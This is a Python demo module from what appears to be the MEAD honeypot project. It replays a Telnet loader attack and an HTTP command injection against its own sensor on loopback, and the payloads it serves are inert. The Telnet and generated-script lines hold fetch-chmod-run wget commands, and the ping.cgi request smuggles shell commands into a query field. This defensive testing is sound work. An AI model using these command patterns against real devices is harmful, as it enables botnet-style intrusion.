# SPDX-License-Identifier: Apache-2.0
"""A recorded attack through every stage, on loopback, in seconds: what MEAD does, shown and not told.

The attack is the course of a Telnet loader as seen thousands of times a day: default password, a probe for
BusyBox, a writable directory, a script fetched and run, which fetches one program per architecture; and an
injected command by HTTP. Its bodies are made here: program headers around a sentence. Nothing of it is
executed, and the one place that is fetched from is a server of our own on loopback.
"""

from __future__ import annotations

import asyncio
import io
import shutil
import struct
import zipfile
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

import msgspec

from mead.analysis.worker import Worker
from mead.bus.publisher import Publisher
from mead.bus.queue import WorkQueue
from mead.clock import SystemClock
from mead.config import quoted
from mead.deck.embedded import Way, way_in
from mead.deck.hub import ANALYSIS_QUEUE
from mead.deck.layout import Layout
from mead.deck.sensor import Identity, running_host
from mead.deck.settings import Settings, load_settings
from mead.errors import ConfigError
from mead.sensors.host import Host
from mead.sensors.listeners import bind
from mead.sensors.services import SERVICES
from mead.store.bodies import BodyStore
from mead.store.catalogue import Catalogue

__all__ = ["Outcome", "bodies", "play"]

_LOCAL = "127.0.0.1"
_STAGE_SECONDS = 30.0
_POLL_SECONDS = 0.05
_MARK = ".mead-demo"
_SENTENCE = b"This is a benign demonstration body of MEAD. It does nothing."
_MACHINES = {"arm7": (40, "<"), "mips": (8, ">"), "x86": (3, "<")}
"""e_machine and byte order by the names that loaders use (ELF specification, figure 1-4)."""

_CONFIGURATION = """\
data_dir = {data}

[site]
name = "demo"

[sensor]
name = "demo"
addresses = ["{local}"]

[egress]
# The demo's own server is on loopback; nothing else can be fetched with this.
policy = "fetch"
allow_loopback_for_tests = true
"""


@dataclass(frozen=True, slots=True)
class Outcome:
    """What the demo left behind."""

    samples: int
    findings: int
    sessions: int
    configuration: Path


def bodies(address: str) -> dict[str, bytes]:
    """What the loader's server serves: a script, one program per architecture, an archive."""
    script = (
        "#!/bin/sh\nfor a in {names}; do\n  wget http://{address}/demo.$a -O /tmp/.$a; chmod 777 /tmp/.$a\n"
    )
    script += "  /tmp/.$a telnet.$a\n  rm -f /tmp/.$a\ndone\n"
    served = {"/bins.sh": script.format(names=" ".join(_MACHINES), address=address).encode()}
    for name, (machine, order) in _MACHINES.items():
        served[f"/demo.{name}"] = _program(machine, order)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr("readme.txt", _SENTENCE.decode())
        bundle.writestr("demo.x86", served["/demo.x86"])
    served["/kit.zip"] = archive.getvalue()
    return served


def _program(machine: int, order: str) -> bytes:
    """A 32-bit ELF header, one program header, and a sentence: a valid file that no machine can run."""
    entry, size = 0x8054, 84 + len(_SENTENCE)
    identity = b"\x7fELF\x01" + (b"\x01" if order == "<" else b"\x02") + b"\x01" + bytes(9)
    header = struct.pack(f"{order}HHIIIIIHHHHHH", 2, machine, 1, entry, 52, 0, 0, 52, 32, 1, 40, 0, 0)
    segment = struct.pack(f"{order}IIIIIIII", 1, 0, 0x8000, 0x8000, size, size, 4, 0x1000)
    return identity + header + segment + _SENTENCE


def prepare(directory: Path) -> tuple[Settings, Path]:
    """A fresh data directory with a configuration of its own.

    Raises:
        ConfigError: the directory holds something that is not an earlier demo, or cannot be written.
    """
    try:
        if directory.exists() and any(directory.iterdir()):
            if not (directory / _MARK).exists():
                raise ConfigError(
                    f"{directory} holds something else than a demo; give --directory another one"
                )
            shutil.rmtree(directory)
        directory.mkdir(mode=0o700, parents=True, exist_ok=True)
        (directory / _MARK).touch()
        return _configured(directory)
    except OSError as error:
        raise ConfigError(
            f"{directory}: {error.strerror}; give --directory one that you may write"
        ) from error


def _configured(directory: Path) -> tuple[Settings, Path]:
    configuration = directory / "mead.toml"
    data = directory.absolute() / "data"
    configuration.write_text(_CONFIGURATION.format(data=quoted(data), local=_LOCAL), "utf-8")
    settings = load_settings(configuration)
    services = {"telnet": (0,), "http": (0,)}
    sensor = msgspec.structs.replace(settings.sensor, services=services)
    hub = msgspec.structs.replace(settings.hub, commit_seconds=0.1)
    return msgspec.structs.replace(settings, sensor=sensor, hub=hub), configuration


async def play(directory: Path, say: Callable[[str], None]) -> Outcome:
    """Start a deck of its own below `directory`, play the attack, wait for the analysis, stop.

    Raises:
        ConfigError: the directory holds something else, or a stage did not come about in time.
    """
    settings, configuration = prepare(directory)
    async with way_in(settings) as way:
        async with _deck(way) as (host, ports), _server() as address:
            say(f"1  a sensor listens on {_LOCAL}: telnet {ports['telnet']}, http {ports['http']}")
            await _telnet_attack(ports["telnet"], address)
            say("2  a loader logged in by Telnet, fetched a script and ran it; the script named 3 programs")
            await _http_attack(ports["http"], address)
            say("3  a command injected by HTTP offered an archive")
            await host.desk.drain(_STAGE_SECONDS)
            await host.stop()
        await way.settled("demo")
        say("4  the egress gate let the offers through to the demo's own server; the bodies were kept")
        return await _analysed(way, configuration, say)


@asynccontextmanager
async def _deck(way: Way) -> AsyncIterator[tuple[Host, dict[str, int]]]:
    """A sensor in this process, on free ports of loopback."""
    clock = SystemClock()
    identity = Identity.load(way.settings, clock)
    async with running_host(way.settings, way.bus, "demo", identity, clock) as host:
        (doors,) = bind([_LOCAL], way.settings.sensor.services)
        await host.start([(door, SERVICES.load(door.service)) for door in doors])
        yield host, {door.service: door.port for door in doors}


async def _analysed(way: Way, configuration: Path, say: Callable[[str], None]) -> Outcome:
    """Run a worker until every sample was looked at."""
    queue, settings = WorkQueue(way.bus, ANALYSIS_QUEUE), way.settings
    async with Publisher(way.bus, "demo-worker", settings.publisher) as publisher:
        bodies = BodyStore(way.layout.bodies)
        worker = Worker(queue, bodies, publisher, settings.analysis, sensor="demo-worker")
        task = asyncio.create_task(worker.run())
        try:
            async with asyncio.timeout(_STAGE_SECONDS):
                while not (  # noqa: ASYNC110 - the hub, another task, is what we wait for
                    outcome := await asyncio.to_thread(_outcome, way.layout, configuration)
                ):
                    await asyncio.sleep(_POLL_SECONDS)
        except TimeoutError as error:
            why = "`mead check` says what is missing"
            raise ConfigError(f"the analysis did not end within {_STAGE_SECONDS:g} s; {why}") from error
        finally:
            task.cancel()
            with suppress(asyncio.CancelledError):
                await task
    say(f"5  a worker looked into {outcome.samples} bodies in a jail and made {outcome.findings} findings")
    return outcome


def _outcome(layout: Layout, configuration: Path) -> Outcome | None:
    """The figures, once every sample was scanned."""
    with Catalogue.open(layout.catalogue) as catalogue, catalogue.ask() as queries:
        samples = queries.samples().rows
        if not samples or any(not queries.scan_history(sample.sha256).rows for sample in samples):
            return None
        findings = sum(len(queries.findings(sample.sha256).rows) for sample in samples)
        sessions = {row.session for sample in samples for row in queries.sightings(sample.sha256).rows}
        return Outcome(len(samples), findings, len(sessions), configuration)


@asynccontextmanager
async def _server() -> AsyncIterator[str]:
    """The loader's web server on a free port; yields `host:port`."""
    served: dict[str, bytes] = {}

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(asyncio.IncompleteReadError, asyncio.LimitOverrunError, OSError):
            request = await reader.readuntil(b"\r\n\r\n")
            body = served.get(request.split(b" ", 2)[1].decode("ascii", "replace"))
            head = b"HTTP/1.1 404 Not Found\r\n" if body is None else b"HTTP/1.1 200 OK\r\n"
            head += f"Content-Length: {len(body or b'')}\r\nConnection: close\r\n\r\n".encode()
            writer.write(head + (body or b""))
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, _LOCAL, 0)
    async with server:
        address = f"{_LOCAL}:{server.sockets[0].getsockname()[1]}"
        served.update(bodies(address))
        yield address


async def _telnet_attack(port: int, address: str) -> None:
    from mead.deck.selftest import telnet_login  # noqa: PLC0415 - the visitor brings an SSH library along

    reader, writer = await telnet_login(_LOCAL, port)
    for line in (
        "enable", "system", "shell", "sh", "/bin/busybox MEADDEMO", "cat /proc/mounts; /bin/busybox MEADDEMO",
        f"cd /tmp || cd /var/run; wget http://{address}/bins.sh; chmod 777 bins.sh; sh bins.sh; exit",
        "exit",
    ):  # fmt: skip
        writer.write(line.encode() + b"\r\n")
    await writer.drain()
    await _read_out(reader)
    writer.close()


async def _http_attack(port: int, address: str) -> None:
    reader, writer = await asyncio.open_connection(_LOCAL, port)
    target = f"/cgi-bin/ping.cgi?host=;cd+/tmp;wget+http://{address}/kit.zip;unzip+kit.zip"
    writer.write(f"GET {target} HTTP/1.1\r\nHost: {_LOCAL}\r\nConnection: close\r\n\r\n".encode())
    await writer.drain()
    await _read_out(reader)
    writer.close()


async def _read_out(reader: asyncio.StreamReader) -> None:
    with suppress(TimeoutError, OSError):
        async with asyncio.timeout(5.0):
            while await reader.read(65536):
                pass
